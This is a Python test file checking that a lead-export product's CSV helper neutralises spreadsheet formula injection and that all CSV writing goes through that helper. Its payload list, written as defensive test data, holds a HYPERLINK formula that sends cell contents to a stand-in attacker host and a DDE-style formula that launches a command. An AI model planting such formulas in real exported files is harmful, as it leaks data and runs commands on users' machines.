"""CSV formula injection: every CSV the product writes neutralises cells a spreadsheet would evaluate."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from faceleads import safecsv

SRC = Path(__file__).resolve().parents[1] / "src" / "faceleads"
PAYLOADS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1", "\r=1"]  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS)
def test_neutralise_formula_cells(payload: str) -> None:
    assert safecsv.neutralise(payload) == "'" + payload
    buffer = io.StringIO()
    safecsv.writer(buffer).writerow([payload, "plain", 7, -1.5])
    cells = next(csv.reader(io.StringIO(buffer.getvalue())))
    assert cells == ["'" + payload, "plain", "7", "-1.5"]  # numbers stay numbers


def test_no_csv_writer_outside_the_safe_helper() -> None:
    """Every CSV writer of the product goes through faceleads.safecsv."""
    offenders = []
    for path in SRC.rglob("*.py"):
        if path.name == "safecsv.py":
            continue
        if re.search(r"\bcsv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8")):
            offenders.append(str(path.relative_to(SRC)))
    assert offenders == []
